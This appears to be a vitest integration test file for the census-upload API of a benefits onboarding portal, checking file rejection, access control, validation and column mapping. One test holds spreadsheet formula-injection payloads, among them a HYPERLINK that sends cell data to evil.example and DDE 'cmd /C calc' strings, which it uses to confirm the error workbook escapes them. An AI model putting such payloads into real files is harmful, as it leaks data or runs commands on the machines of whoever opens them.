import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { zipSync } from 'fflate';
import iconv from 'iconv-lite';
import { censusStream } from '@onboard/events';
import { DEMO_CLIENT_ID } from './seed.ts';
import { uploadCensusFile } from './testing/census.ts';
import { apiClient, eventually } from './testing/http-client.ts';
import { seededAppForTests, type Api } from './testing/seeded-app.ts';

const POLICY_ID = 'policy-lakeside-1';
const census = (clientId = DEMO_CLIENT_ID, policyId = POLICY_ID) =>
  `/api/clients/${clientId}/census/${policyId}`;
const HEADER =
  'Employee ID,First Name,Last Name,SSN,Date of Birth,Hire Date,Employee Class,Hours per week,Location,State,ZIP,Annual Salary';

// The census calls over HTTP: who may upload, what a bad file is answered, and that nothing of a refused
// file is stored; the browser test (e2e/census.e2e.test.ts) walks the whole flow.
describe('census over HTTP', () => {
  /** The file itself as the body, as the web sends it. */
  const upload = (api: Api, bytes: Uint8Array, name: string, path = census()) =>
    uploadCensusFile(api, path, bytes, name);
  const storedDocuments = async () =>
    Number((await portal.app.pool.query<{ n: string }>('select count(*) as n from documents')).rows[0]!.n);

  const portal = seededAppForTests('census', ['benAdmin']);

  it('refuses what is not a census with a message naming the problem, and stores nothing of it', async () => {
    const before = await storedDocuments();
    const bomb = zipSync({ 'xl/worksheets/sheet1.xml': new Uint8Array(40 * 1024 * 1024) }, { level: 9 });
    const cases: [Uint8Array, string, string][] = [
      [new Uint8Array(0), 'empty.csv', 'The file is empty'],
      [
        new TextEncoder().encode('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
        'census.csv',
        'This file is a PDF document, not a table: upload the census as a CSV or XLSX file',
      ],
      [
        new Uint8Array([0, 1, 2, 3, 0, 1, 2, 3]),
        'census.csv',
        'Upload a CSV or XLSX file: this file is neither',
      ],
      [
        new TextEncoder().encode('Employee ID,First Name\nE1,Ada\n'),
        'short.csv',
        'The file has no column for Last name',
      ],
      [
        new TextEncoder().encode(`${HEADER}\n`),
        'header-only.csv',
        'The file has a header row but no employees',
      ],
      [bomb, 'bomb.xlsx', 'looks like a compressed-size bomb'],
    ];
    for (const [bytes, name, message] of cases) {
      const answer = await upload(portal.benAdmin, bytes, name);
      expect(answer.status, name).toBe(400);
      expect(String(answer.body.message), name).toContain(message);
    }
    expect(await storedDocuments()).toBe(before);
    expect(await portal.app.store.readStream(censusStream(DEMO_CLIENT_ID, POLICY_ID))).toEqual([]);
  });

  it('a benefits administrator uploads, confirms and validates their own client’s census, not another’s', async () => {
    const row = 'E1,Ada,Lovelace,123-45-6789,12/10/1985,03/15/2020,Salaried,40,Head office,NY,10001,85000';
    const csv = new TextEncoder().encode(`${HEADER}\n${row}\n${row.replace('E1', 'E2')}\n`);
    expect(
      (await upload(portal.benAdmin, csv, 'other.csv', census('harbor-freight-lines', 'policy-harbor-1')))
        .status,
    ).toBe(403);
    expect(
      (await portal.benAdmin.get(`${census('harbor-freight-lines', 'policy-harbor-1')}/validate`)).status,
    ).toBe(403);

    const uploaded = await upload(portal.benAdmin, csv, 'census.csv');
    expect(uploaded.status).toBe(201);
    const document = uploaded.body.document as {
      documentId: string;
      mapping: Record<string, number>;
      status: string;
    };
    expect(document).toMatchObject({ status: 'UPLOADED', mapping: { ssn: 3, employeeId: 0 } });

    const confirmed = await portal.benAdmin.put(`${census()}/validate-submit`, {
      documentId: document.documentId,
      mapping: document.mapping,
      source: 'BEN_ADMIN_PLATFORM',
    });
    expect(confirmed.status).toBe(200);
    const validated = await eventually(async () => {
      const list = (await portal.benAdmin.get(`${census()}/validate`)).body as {
        document: { status: string; errorWorkbookDocumentId: string | null };
        submitted: boolean;
        domainValidations: { report: { groups: { rule: string; rows: number[] }[] } | null };
      }[];
      expect(list[0]!.document.status).toBe('VALIDATED');
      return list[0]!;
    });
    // The demo form is not signed: only the row rules ran, and the duplicate SSN is on row 3.
    expect(validated.domainValidations.report!.groups).toEqual([
      expect.objectContaining({ rule: 'DUPLICATE_SSN', rows: [3] }),
    ]);
    expect(validated.document.errorWorkbookDocumentId).not.toBeNull();
    const refused = await portal.benAdmin.post(`${census()}/submit`, { documentId: document.documentId });
    expect(refused.status).toBe(400);
    expect(refused.body.code).toBe('HAS_ERRORS');
    const workbook = await fetch(`${portal.app.url}${census()}/files/${document.documentId}/error-workbook`, {
      headers: { cookie: [...portal.benAdmin.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(workbook.status).toBe(200);
    expect(new Uint8Array(await workbook.arrayBuffer()).subarray(0, 2)).toEqual(new Uint8Array([0x50, 0x4b]));
  });

  it('writes the error workbook with no cell a spreadsheet program would run as a formula', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
    ];
    const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
    const rows = hostile.map((cell, i) =>
      [
        `F${i}`,
        quote(cell),
        'Lovelace',
        '987-65-4321',
        '12/10/1985',
        '03/15/2020',
        'Salaried',
        '40',
        quote(cell),
        'NY',
        '10001',
        '85000',
      ].join(','),
    );
    const csv = new TextEncoder().encode(`${HEADER}\n${rows.join('\n')}\n`);
    const uploaded = await upload(portal.benAdmin, csv, 'hostile.csv');
    expect(uploaded.status).toBe(201);
    const document = uploaded.body.document as { documentId: string; mapping: Record<string, number> };
    expect(
      (
        await portal.benAdmin.put(`${census()}/validate-submit`, {
          documentId: document.documentId,
          mapping: document.mapping,
          source: 'BEN_ADMIN_PLATFORM',
        })
      ).status,
    ).toBe(200);
    await eventually(async () => {
      const list = (await portal.benAdmin.get(`${census()}/validate`)).body as {
        document: { documentId: string; status: string; errorWorkbookDocumentId: string | null };
      }[];
      const mine = list.find((entry) => entry.document.documentId === document.documentId)!;
      expect(mine.document.status).toBe('VALIDATED');
      expect(mine.document.errorWorkbookDocumentId).not.toBeNull();
    });
    const response = await fetch(`${portal.app.url}${census()}/files/${document.documentId}/error-workbook`, {
      headers: { cookie: [...portal.benAdmin.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    const written: unknown[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => void written.push(cell.value)));
    // Every cell is plain text or a number, never a formula; each hostile cell comes with a leading quote.
    for (const value of written) expect(typeof value === 'string' || typeof value === 'number').toBe(true);
    const texts = written.map(String);
    for (const text of texts) expect(text).not.toMatch(/^[=+\-@\t\r]/);
    for (const cell of hostile) expect(texts.filter((text) => text === `'${cell}`)).toHaveLength(2);
  });

  it('reads a file as detected, again as the user chooses, and matches the next upload’s columns as confirmed for the client or its platform', async () => {
    const owner = apiClient(portal.app.url);
    await owner.signIn('owner@onboard.example');
    // Both clients' EIFs name the same benefits-administration platform for a policy.
    for (const [clientId, policyId] of [
      [DEMO_CLIENT_ID, 'policy-lakeside-2'],
      ['harbor-freight-lines', 'policy-harbor-1'],
    ] as const) {
      const named = await owner.put(`/api/clients/${clientId}/policies/${policyId}`, {
        usesBenAdminPlatform: 'YES',
        benAdminPlatformName: 'Acme Benefits Cloud',
      });
      expect(named.status, clientId).toBe(200);
    }
    const headers = `${HEADER.replace('SSN', 'Tax ID')};SSN`.replaceAll(',', ';');
    const row = 'E1;José;Muñoz;123-45-6789;12/10/1985;03/15/2020;Salaried;40;Head office;NY;10001;85000;';
    const bytes = iconv.encode(`${headers}\r\n${row}\r\n`, 'windows-1252');
    type Document = {
      documentId: string;
      mapping: Record<string, number>;
      headers: string[];
      reading: { encoding: string; detectedEncoding: string; delimiter: string };
      matches: Record<string, { how: string; confidence: number }>;
      remembered: { scope: string; fileName: string; differences: { kind: string; header: string }[] } | null;
    };
    const first = await upload(
      owner,
      bytes,
      'payroll export.csv',
      census(DEMO_CLIENT_ID, 'policy-lakeside-2'),
    );
    expect(first.status).toBe(201);
    const document = first.body.document as Document;
    expect(document.reading).toMatchObject({
      encoding: 'windows-1252',
      detectedEncoding: 'windows-1252',
      delimiter: ';',
    });
    expect(document.headers[12]).toBe('SSN');
    expect(document.mapping.ssn).toBe(12);
    // The client's census confirmed before had an SSN column: it is matched as then.
    expect(document.matches.ssn).toEqual({ how: 'REMEMBERED', confidence: 1 });
    expect(document.matches.firstName).toEqual({ how: 'REMEMBERED', confidence: 1 });
    expect(document.remembered).toMatchObject({ scope: 'CLIENT' });
    expect(document.remembered!.differences).toContainEqual({ kind: 'NEW', header: 'Tax ID' });

    // Read again as UTF-8, the detected encoding still named; then as Windows-1252 again.
    const path = `${census(DEMO_CLIENT_ID, 'policy-lakeside-2')}/files/${document.documentId}/reading`;
    const asUtf8 = await owner.put(path, { encoding: 'UTF-8' });
    expect(asUtf8.status).toBe(200);
    expect((asUtf8.body as { document: Document }).document.reading).toMatchObject({
      encoding: 'UTF-8',
      detectedEncoding: 'windows-1252',
      delimiter: ';',
    });
    // Read with commas, the file has one column a line: refused saying so, and nothing changes.
    const asCommas = await owner.put(path, { delimiter: ',' });
    expect(asCommas.status).toBe(400);
    expect(String(asCommas.body.message)).toContain('This file is text, not a table');
    const back = await owner.put(path, { encoding: 'windows-1252', delimiter: ';' });
    expect((back.body as { document: Document }).document.mapping.ssn).toBe(12);
    expect((await owner.put(path, { sheet: 'Census', favourite: 1 })).status).toBe(400);

    // The user says the SSN is the 'Tax ID' column.
    const confirmed = await owner.put(`${census(DEMO_CLIENT_ID, 'policy-lakeside-2')}/validate-submit`, {
      documentId: document.documentId,
      mapping: { ...document.mapping, ssn: 3 },
      source: 'BEN_ADMIN_PLATFORM',
    });
    expect(confirmed.status).toBe(200);
    await eventually(async () => {
      const { rows } = await portal.app.pool.query<{ scope: string }>(
        'select scope from rm_census_mappings order by scope',
      );
      expect(rows.map((r) => r.scope)).toEqual(['CLIENT', 'PLATFORM']);
    });

    // The client's next file, its columns in another order with one more: SSN is the 'Tax ID' column again.
    const reordered = `Bonus;SSN;${HEADER.replace('SSN', 'Tax ID').replaceAll(',', ';')}\r\n5;;${row.slice(0, -1)}\r\n`;
    const next = (await upload(owner, iconv.encode(reordered, 'windows-1252'), 'march.csv', census())).body
      .document as Document;
    expect(next.mapping.ssn).toBe(5);
    expect(next.matches.ssn).toEqual({ how: 'REMEMBERED', confidence: 1 });
    expect(next.remembered).toMatchObject({ scope: 'CLIENT', fileName: 'payroll export.csv' });
    expect(next.remembered!.differences).toEqual([{ kind: 'NEW', header: 'Bonus' }]);

    // Another client on the same platform starts from the same columns.
    const other = (
      await upload(owner, bytes, 'harbor.csv', census('harbor-freight-lines', 'policy-harbor-1'))
    ).body.document as Document;
    expect(other.mapping.ssn).toBe(3);
    expect(other.remembered).toMatchObject({ scope: 'PLATFORM', fileName: 'payroll export.csv' });
  });
});
